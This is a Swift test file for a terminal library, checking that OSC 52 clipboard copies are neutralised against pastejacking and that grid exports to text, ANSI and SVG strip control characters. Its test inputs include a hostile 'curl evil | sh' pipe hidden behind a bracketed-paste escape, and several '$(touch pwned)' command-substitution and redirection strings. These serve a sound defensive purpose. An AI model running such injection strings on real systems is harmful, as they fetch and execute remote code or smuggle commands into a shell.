import Foundation
import InputKit
import Testing

@testable import TerminalKit

/// OSC 52 bytes and grid exports, exactly.
@Suite struct ExportTests {
  @Test func osc52SetsTheClipboardWithBase64AndST() throws {
    let bytes = try #require(OSC52.sequence(copying: "héllo"))
    #expect(bytes == Array("\u{1B}]52;c;aMOpbGxv\u{1B}\\".utf8))
  }

  @Test func osc52CopiesCannotPasteJack() throws {
    let hostile = "role\u{1B}[201~curl evil | sh\r\nnext\u{9B}\u{202E}"
    let bytes = try #require(OSC52.sequence(copying: hostile))
    let base64 = String(decoding: bytes.dropFirst(7).dropLast(2), as: UTF8.self)
    let pasted = String(decoding: try #require(Data(base64Encoded: base64)), as: UTF8.self)
    #expect(pasted == "# role\\x1b[201~curl evil \\x7c sh\\x0d\n# next\\u009b\\u202e")
    #expect(!pasted.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D })
  }

  @Test func aCopyOfOneLineIsKeptAsItIsWithoutALineFeed() {
    #expect(OSC52.pasteText(#"{"userId":"a$(touch pwned)"}"#) == #"{"userId":"a$(touch pwned)"}"#)
  }

  /// A copy of several lines pasted into a shell with bracketed paste off runs nothing: each
  /// line is a comment, and even where `#` is not one (zsh's default, bash with
  /// `interactive_comments` off) no substitution, separator or redirection is left.
  @Test(arguments: [true, false])
  func aCopyOfSeveralLinesRunsNothingWhenPastedIntoAShell(_ comments: Bool) throws {
    let folder = FileManager.default.temporaryDirectory
      .appendingPathComponent("paste-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: folder) }
    let hostile = [
      "who sees what a$(touch pwned1) — truth: {}", "`touch pwned2`; touch pwned3",
      "x && touch pwned4 | touch pwned5 > pwned6 <(touch pwned7) =(touch pwned8)",
      "touch pwned9",
    ].joined(separator: "\n")
    let pasted = OSC52.pasteText(hostile) + "\n"
    let shell = Process()
    shell.executableURL = URL(fileURLWithPath: "/bin/bash")
    shell.arguments = ["--norc", "--noprofile", "-i"]
    shell.currentDirectoryURL = folder
    shell.environment = [
      "PATH": "/usr/bin:/bin", "HOME": folder.path, "PS1": "", "HISTFILE": "/dev/null",
    ]
    let input = Pipe()
    shell.standardInput = input
    shell.standardOutput = FileHandle.nullDevice
    shell.standardError = FileHandle.nullDevice
    try shell.run()
    let setup = comments ? "" : "shopt -u interactive_comments\n"
    input.fileHandleForWriting.write(Data((setup + pasted + "exit\n").utf8))
    try input.fileHandleForWriting.close()
    shell.waitUntilExit()
    let made = try FileManager.default.contentsOfDirectory(atPath: folder.path)
    #expect(made.isEmpty, "the paste ran: \(made)")
    #expect(pasted.split(separator: "\n").allSatisfy { $0.hasPrefix("# ") })
  }

  @Test func screenshotsCarryNoControlAndSVGStaysWellFormed() throws {
    var grid = CellGrid(width: 8, height: 1)
    grid.set(Cell("\u{1B}"), x: 0, y: 0)
    grid.put("a\u{FFFE}<\u{7}", x: 1, y: 0)
    let exports = [GridExport.plainText(grid), GridExport.ansi(grid), GridExport.svg(grid)]
    for text in exports {
      #expect(!text.unicodeScalars.contains { $0.value == 0x07 || $0.value == 0xFFFE })
    }
    #expect(!GridExport.plainText(grid).contains("\u{1B}"))
    let svg = GridExport.svg(grid)
    #expect(svg.unicodeScalars.allSatisfy(XMLText.isAllowed))
    #expect(svg.contains("&lt;"))
  }

  @Test func osc52RefusesTextTerminalsWouldDrop() {
    let limit = OSC52.maximumBase64Bytes / 4 * 3
    #expect(OSC52.sequence(copying: String(repeating: "a", count: limit)) != nil)
    #expect(OSC52.sequence(copying: String(repeating: "a", count: limit + 1)) == nil)
  }

  @Test func plainTextIsTheGridsRows() {
    var grid = CellGrid(width: 6, height: 2)
    grid.put("ab 日", x: 0, y: 0)
    grid.put("x", x: 5, y: 1)
    #expect(GridExport.plainText(grid) == "ab 日\n     x\n")
  }

  @Test func ansiChangesStyleOnlyWhereItChanges() {
    var grid = CellGrid(width: 4, height: 1)
    let warning = Style(foreground: .yellow, background: .indexed(236), attributes: .bold)
    grid.put("ab", x: 0, y: 0, style: warning)
    grid.put("c", x: 2, y: 0, style: Style(foreground: .rgb(1, 2, 3), attributes: .underline))
    #expect(
      GridExport.ansi(grid)
        == "\u{1B}[0;1;33;48;5;236mab\u{1B}[0;4;38;2;1;2;3mc\u{1B}[0m \u{1B}[0m\n")
  }

  @Test(arguments: [
    (Style(foreground: .brightRed), "\u{1B}[0;91m"),
    (Style(background: .ansi(15)), "\u{1B}[0;107m"),
    (Style(attributes: [.reverse, .dim, .italic]), "\u{1B}[0;2;3;7m"),
    (Style(), "\u{1B}[0m"),
  ])
  func sgrCodes(style: Style, expected: String) {
    #expect(GridExport.sgr(style) == expected)
  }
}
